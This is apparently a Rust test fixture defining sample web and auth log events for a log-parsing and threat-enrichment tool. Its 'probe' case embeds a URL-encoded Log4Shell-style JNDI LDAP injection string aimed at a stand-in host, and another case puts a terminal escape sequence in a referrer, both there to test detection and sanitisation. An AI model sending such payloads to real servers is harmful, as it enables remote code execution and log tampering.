//! Events of each kind, whose JSON is in golden files.

use super::*;

pub(super) const ACCESS_LINE: &[u8] = b"198.51.100.23 - bob [20/Nov/2026:07:46:41 +0000] \
    \"GET /members/?q=a|b=c HTTP/1.1\" 401 179 \"https://www.example.org/\" \
    \"Mozilla/5.0 (X11; Linux) \\x22x\\x22\" \"-\" 0.012";

pub(super) fn failed_login() -> EventBatch {
    batch(ACCESS_LINE, |_, writer| {
        set(
            writer,
            &[
                (Field::ClientAddress, "198.51.100.23"),
                (Field::User, "bob"),
                (Field::Method, "GET"),
                (Field::Target, "/members/?q=a|b=c"),
                (Field::Path, "/members/"),
                (Field::Query, "q=a|b=c"),
                (Field::HttpVersion, "1.1"),
                (Field::Referrer, "https://www.example.org/"),
                (Field::UserAgent, "Mozilla/5.0 (X11; Linux) \"x\""),
                (Field::Domain, "www.example.org"),
                (Field::Scheme, "https"),
                (Field::DestinationPort, "443"),
            ],
        );
        writer.row.client = "198.51.100.23".parse().ok();
        writer.row.format = "nginx:custom";
        writer.row.action = Action::Login;
        writer.row.level = Level::Warn;
        writer.row.status = 401;
        writer.row.bytes = Some(179);
        writer.row.duration_ns = Some(12_000_000);
        writer.row.auth = Some(Auth {
            outcome: AuthOutcome::Failure,
            reason: Some(Reason::BadCredentials),
            method: AuthMethod::Basic,
            confidence: Confidence::High,
            counted: true,
        });
    })
}

/// A request that signatures tell, and that is for a published weakness.
pub(super) fn probe() -> EventBatch {
    batch(b"probe", |_, writer| {
        let target = "/?q=%24%7Bjndi:ldap://203.0.113.9/a%7D";
        set(writer, &[(Field::Method, "GET"), (Field::Target, target), (Field::Path, "/")]);
        writer.set(Field::UserAgent, b"Mozilla/5.0 zgrab/0.x");
        set(
            writer,
            &[
                (Field::ThreatFeed, "blocklist"),
                (Field::ThreatIndicator, "198.51.100.0/24"),
                (Field::ThreatType, "ipv4-addr"),
                (Field::ThreatMatched, "source.ip"),
                (Field::ThreatSeverity, "high"),
                (Field::ThreatConfidence, "High"),
                (Field::ThreatTlp, "GREEN"),
                (Field::ThreatDescription, "botnet"),
                (Field::ThreatReference, "https://cti.example.org/7"),
                (Field::ThreatSince, "2026-11-17T10:00:00.000Z"),
                (Field::ThreatNote, "botnet; list of 2026-11-19"),
            ],
        );
    })
}

/// All that enrichment adds.
pub(super) fn known_crawler() -> EventBatch {
    batch(b"crawler", |_, writer| {
        set(
            writer,
            &[
                (Field::UserAgent, "Mozilla/5.0 (compatible; Googlebot/2.1)"),
                (Field::AgentName, "Googlebot"),
                (Field::AgentVersion, "2.1"),
                (Field::AgentOs, "Linux"),
                (Field::AgentOsVersion, "6"),
                (Field::AgentDevice, "crawler"),
                (Field::Country, "DE"),
                (Field::Region, "DE-BE"),
                (Field::City, "Berlin"),
                (Field::Continent, "EU"),
                (Field::Latitude, "52.5196"),
                (Field::Longitude, "-13.4069"),
                (Field::AsNumber, "64496"),
                (Field::AsOrganisation, "Example Net"),
            ],
        );
        writer.row.client = "66.249.66.1".parse().ok();
        writer.row.login_app = "wordpress";
        writer.row.grade = Some(Grade::B);
        writer.row.auth = Some(Auth {
            outcome: AuthOutcome::Success,
            reason: None,
            method: AuthMethod::Form,
            confidence: Confidence::Medium,
            counted: false,
        });
    })
}

/// A request with nearly every field there is.
pub(super) fn proxied_request() -> EventBatch {
    batch(b"proxied", |_, writer| {
        set(
            writer,
            &[
                (Field::ClientAddress, "::ffff:203.0.113.77"),
                (Field::Method, "POST"),
                (Field::Target, "https://shop.example.org:8443/caf\u{e9}/Start.PHP?x=\"y\"#top"),
                (Field::UrlDomain, "shop.example.org"),
                (Field::UrlPort, "8443"),
                (Field::Path, "/caf\u{e9}/Start.PHP"),
                (Field::Query, ""),
                (Field::Fragment, "top"),
                (Field::HttpVersion, "3"),
                (Field::Domain, "shop.example.org"),
                (Field::Peer, "10.0.0.2"),
                (Field::ClientPort, "50022"),
                (Field::Forwarded, "192.0.2.9, 203.0.113.77:4711, unknown"),
                (Field::RealIp, "203.0.113.77"),
                (Field::DestinationIp, "2001:db8::1"),
                (Field::DestinationPort, "70000"),
                (Field::RequestId, "req-1"),
                (Field::RequestBytes, "640"),
                (Field::RequestBodyBytes, "21"),
                (Field::ResponseBytes, "710"),
                (Field::TlsVersion, "1.3"),
                (Field::TlsCipher, "TLS_AES_128_GCM_SHA256"),
                (Field::TlsServerName, "shop.example.org"),
                (Field::UpstreamAddress, "10.1.1.2:80"),
                (Field::UpstreamStatus, "504"),
                (Field::UpstreamTime, "1.000"),
                (Field::UpstreamAttempts, "2"),
                (Field::CacheStatus, "MISS"),
                (Field::Connection, "77"),
                (Field::ConnectionRequests, "3"),
                (Field::IisSubstatus, "0"),
                (Field::IisWin32Status, "64"),
                (Field::Trailing, "one"),
                (Field::Trailing, "two"),
                (Field::RuleId, "web.probe"),
                (Field::RuleName, "A probe"),
            ],
        );
        writer.label("zone.name", b"eu");
        writer.label("zone_name", b"the same name again");
        writer.set(Field::Referrer, b"https://\xff.example.org/\x1b[2J");
        writer.set(Field::UserAgent, &[b'a'; 1100]);
        writer.row.client = "::ffff:203.0.113.77".parse().ok();
        writer.row.client_source = ClientSource::Forwarded;
        writer.row.format = "nginx:custom";
        writer.row.module = Module::Apache;
        writer.row.stamp = Stamp::Start;
        writer.row.zone_minutes = -210;
        writer.row.time = CREATED.plus_ms(700_000);
        writer.row.level = Level::Error;
        writer.row.status = 502;
        writer.row.bytes = Some(710);
        writer.row.duration_ns = Some(1_011_000_000);
    })
}

pub(super) fn tls_on_the_plain_port() -> EventBatch {
    batch(b"2001:db8::7 - - \"\\x16\\x03\"", |raw, writer| {
        writer.set(Field::ClientAddress, &raw[..11]);
        writer.row.client = "2001:db8::7".parse().ok();
        writer.row.format = "combined";
        writer.row.level = Level::Notice;
        writer.row.status = 400;
        writer.row.bytes = Some(157);
        writer.row.malformed = Some(Malformed::TlsBytes);
        writer.row.empty_user = true;
    })
}

pub(super) fn server_error() -> EventBatch {
    batch(b"an error line", |_, writer| {
        set(
            writer,
            &[
                (Field::ClientAddress, "192.0.2.9"),
                (Field::Message, "open() \"/srv/x\" failed (2: No such file or directory)"),
                (Field::Code, "AH00128"),
                (Field::Process, "core"),
                (Field::Pid, "812"),
                (Field::Tid, "9"),
                (Field::Record, "ended"),
            ],
        );
        writer.row.client = "192.0.2.9".parse().ok();
        writer.row.kind = Kind::ServerError;
        writer.row.module = Module::Apache;
        writer.row.format = "apache:error";
        writer.row.action = Action::FileNotFound;
        writer.row.level = Level::Error;
        writer.row.zone_minutes = 120;
    })
}

pub(super) fn login_over_ssh() -> EventBatch {
    batch(b"an auth line", |_, writer| {
        set(
            writer,
            &[
                (Field::ClientAddress, "client.example.org"),
                (Field::User, "alice"),
                (Field::TargetUser, "root"),
                (Field::Message, "Accepted publickey for alice from client.example.org"),
                (Field::Process, "sshd"),
                (Field::Pid, "911"),
                (Field::Hostname, "web1"),
                (Field::Service, "sshd"),
            ],
        );
        writer.row.kind = Kind::Auth;
        writer.row.count = 3;
        writer.row.module = Module::System;
        writer.row.format = "syslog:auth";
        writer.row.action = Action::Login;
        writer.row.auth = Some(Auth {
            outcome: AuthOutcome::Success,
            reason: None,
            method: AuthMethod::PublicKey,
            confidence: Confidence::High,
            counted: false,
        });
    })
}

pub(super) fn unread_line() -> EventBatch {
    let mut batch = batch(b"no \"log\" line \xff\x07", |_, writer| {
        writer.set(Field::Error, b"no format reads it: no_match");
        writer.row.kind = Kind::ParseFailure;
        writer.row.action = Action::ParseFailed;
        writer.row.level = Level::Warn;
        writer.row.format = "none";
        writer.row.time = CREATED;
        writer.row.time_is_read = true;
        writer.row.offset = 7;
    });
    let stdin = Origin { path: String::new(), ..(*batch.origin).clone() };
    batch.origin = Arc::new(stdin);
    batch
}

pub(super) fn first_leg_of_a_dialogue() -> EventBatch {
    batch(b"a challenge", |_, writer| {
        writer.row.status = 401;
        writer.row.level = Level::Warn;
        writer.row.client_source = ClientSource::Ambiguous;
        writer.row.auth = Some(Auth {
            outcome: AuthOutcome::Challenge,
            reason: None,
            method: AuthMethod::Basic,
            confidence: Confidence::High,
            counted: false,
        });
    })
}

type Case = (&'static str, fn() -> EventBatch);

pub(super) const CASES: &[Case] = &[
    ("failed_login", failed_login),
    ("proxied_request", proxied_request),
    ("known_crawler", known_crawler),
    ("probe", probe),
    ("tls_on_the_plain_port", tls_on_the_plain_port),
    ("server_error", server_error),
    ("login_over_ssh", login_over_ssh),
    ("unread_line", unread_line),
    ("first_leg_of_a_dialogue", first_leg_of_a_dialogue),
    ("balanced_request", balanced_request),
];

fn balanced_request() -> EventBatch {
    batch(b"a request over two proxies", |_, writer| {
        set(
            writer,
            &[
                (Field::ClientAddress, "203.0.113.81"),
                (Field::TlsResumed, "true"),
                (Field::TlsNextProtocol, "h2"),
                (Field::TlsCurve, "X25519"),
                (Field::TlsClientSubject, "CN=alice,O=Example"),
                (Field::TlsClientIssuer, "CN=Example CA"),
                (Field::TraceId, "4bf92f3577b34da6a3ce929d0e0e4736"),
                (Field::SpanId, "00f067aa0ba902b7"),
                (Field::UpstreamConnectTime, "0.001"),
                (Field::UpstreamHeaderTime, "0.020"),
                (Field::HaproxyFrontend, "fe"),
                (Field::HaproxyBackend, "be"),
                (Field::HaproxyServer, "srv1"),
                (Field::HaproxyTermState, "SD--"),
                (Field::HaproxyTq, "10"),
                (Field::HaproxyTw, "0"),
                (Field::HaproxyTc, "30"),
                (Field::HaproxyTr, "69"),
                (Field::HaproxyTa, "109"),
                (Field::HaproxyRetries, "1"),
            ],
        );
        writer.row.client = "203.0.113.81".parse().ok();
        writer.row.module = Module::Haproxy;
        writer.row.status = 200;
    })
}
